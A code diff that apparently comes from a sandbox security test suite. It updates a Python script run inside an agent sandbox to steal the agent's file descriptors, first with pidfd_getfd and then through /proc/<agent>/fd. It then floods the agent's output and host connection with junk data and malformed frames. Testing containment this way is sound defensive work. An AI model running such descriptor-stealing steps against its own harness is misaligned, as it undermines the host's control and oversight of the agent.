@@ -1,8 +1,9 @@
 /**
  * Attacks on the host–agent channel, run INSIDE a sandbox as an ordinary command
- * (python3, as a model could run it). The command is a child of the agent, which
- * runs as the same user and is dumpable, so pidfd_getfd hands it any descriptor the
- * agent holds:
+ * (python3, as a model could run it). The command is a child of the agent and runs as
+ * the same user. It asks pidfd_getfd for the agent's descriptors (the seccomp filter
+ * refuses it: EPERM), then opens them through /proc/<agent>/fd (a pipe opens so while
+ * the agent is dumpable, as on Node; on Bun it is not; a socket never opens so):
  *
  *   stdio <MiB>  takes the agent's stdout and stderr (what the host read after
  *                start-up) and writes <MiB> MiB into each; prints per fd what happened.
@@ -25,8 +26,10 @@ if pidfd < 0:
 
 def steal(fd):
     got = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
-    if got < 0: raise OSError(ctypes.get_errno(), "pidfd_getfd failed")
-    return got
+    if got >= 0: return got
+    why = "pidfd_getfd " + errno.errorcode.get(ctypes.get_errno(), "?")
+    try: return os.open("/proc/%d/fd/%d" % (agent, fd), os.O_WRONLY)
+    except OSError as e: raise OSError(e.errno, "refused (%s, /proc open %s)" % (why, errno.errorcode.get(e.errno, e.errno)))
 
 def inode(fd):
     try: link = os.readlink("/proc/%d/fd/%d" % (agent, fd))
@@ -50,12 +53,18 @@ if mode == "stdio":
         try: print("fd%d %s" % (fd, flood(steal(fd), mib)), flush=True)
         except OSError as e: print("fd%d %s" % (fd, e), flush=True)
 elif mode == "frame":
-    local = set(line.split()[6] for line in open("/proc/net/unix").read().splitlines()[1:])
-    stdio = {inode(1), inode(2)}
-    fds = [int(n) for n in os.listdir("/proc/%d/fd" % agent)]
-    host = [fd for fd in fds if inode(fd) and inode(fd) not in local and inode(fd) not in stdio]
+    try:
+        local = set(line.split()[6] for line in open("/proc/net/unix").read().splitlines()[1:])
+        stdio = {inode(1), inode(2)}
+        fds = [int(n) for n in os.listdir("/proc/%d/fd" % agent)]
+        host = [fd for fd in fds if inode(fd) and inode(fd) not in local and inode(fd) not in stdio]
+    except OSError as e:
+        # The agent's descriptors cannot even be listed (not dumpable): try every low number.
+        print("listing refused", errno.errorcode.get(e.errno, e.errno), flush=True)
+        host = list(range(3, 64))
     if not host: print("no host connection found"); sys.exit(3)
     for fd in host:
-        r = flood(steal(fd), mib, b"X\xff\xff\xff\xff")
+        try: r = flood(steal(fd), mib, b"X\xff\xff\xff\xff")
+        except OSError as e: r = str(e)
         print("conn %d %s" % (fd, r), flush=True)
 `;
